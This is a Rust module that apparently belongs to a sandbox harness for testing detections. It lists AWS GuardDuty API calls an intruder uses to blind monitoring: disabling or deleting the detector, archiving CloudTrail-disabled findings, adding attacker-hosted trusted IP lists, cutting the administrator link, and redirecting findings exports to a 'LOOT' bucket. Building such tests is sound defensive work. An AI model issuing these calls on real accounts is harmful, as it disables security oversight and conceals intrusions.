//! B48: GuardDuty.

use serde_json::{Value, json};

use super::{LOOT, Step, Target, Way, way};

/// The sandbox counts its ids: those of the list, the export and the list of entities that an
/// account makes right after its detector.
const IP_SET: &str = "12abc34d567e8fa901bc2d34e0000002";
const DESTINATION: &str = "12abc34d567e8fa901bc2d34e0000003";
const ENTITY_SET: &str = "12abc34d567e8fa901bc2d34e0000004";

pub(super) fn ways(target: &Target) -> Vec<Way> {
    let of = |operation, mut input: Value| {
        if let Some(members) = input.as_object_mut() {
            members.insert("DetectorId".to_owned(), target.detector.clone().into());
        }
        Step::new("guardduty", operation, input)
    };
    let on = |name, operation, input| way(name, vec![of(operation, input)]);
    let elsewhere = json!({
        "DestinationId": DESTINATION,
        "DestinationProperties": {
            "DestinationArn": format!("arn:aws:s3:::{LOOT}"),
            "KmsKeyArn": target.intruders_key(),
        },
    });
    let hide = json!({
        "Name": "noise",
        "Action": "ARCHIVE",
        "FindingCriteria": {"Criterion": {"type": {
            "Equals": ["Stealth:IAMUser/CloudTrailLoggingDisabled"],
        }}},
    });
    let mut counting = hide.clone();
    if let Some(members) = counting.as_object_mut() {
        members.insert("Action".to_owned(), "NOOP".into());
    }
    let list = json!({
        "Name": "friends",
        "Format": "TXT",
        "Location": format!("https://s3.amazonaws.com/{LOOT}/friends.txt"),
        "Activate": true,
    });
    let changed = json!({"IpSetId": IP_SET, "Activate": true});
    let wider = json!({
        "TrustedEntitySetId": ENTITY_SET,
        "Location": format!("https://s3.amazonaws.com/{LOOT}/friends.txt"),
        "Activate": true,
    });
    vec![
        on("disabled", "UpdateDetector", json!({"Enable": false})),
        on("no detector", "DeleteDetector", json!({})),
        on("findings archived", "CreateFilter", hide),
        way(
            "a filter changed",
            vec![
                of("CreateFilter", counting),
                of(
                    "UpdateFilter",
                    json!({"FilterName": "noise", "Action": "ARCHIVE"}),
                ),
            ],
        ),
        on("a trusted list", "CreateIPSet", list.clone()),
        on("a changed list", "UpdateIPSet", changed),
        on("a trusted entity list", "CreateTrustedEntitySet", list),
        on("a changed entity list", "UpdateTrustedEntitySet", wider),
        on(
            "no administrator",
            "DisassociateFromAdministratorAccount",
            json!({}),
        ),
        on("no master", "DisassociateFromMasterAccount", json!({})),
        on(
            "no export",
            "DeletePublishingDestination",
            json!({"DestinationId": DESTINATION}),
        ),
        on(
            "an export elsewhere",
            "UpdatePublishingDestination",
            elsewhere,
        ),
    ]
}
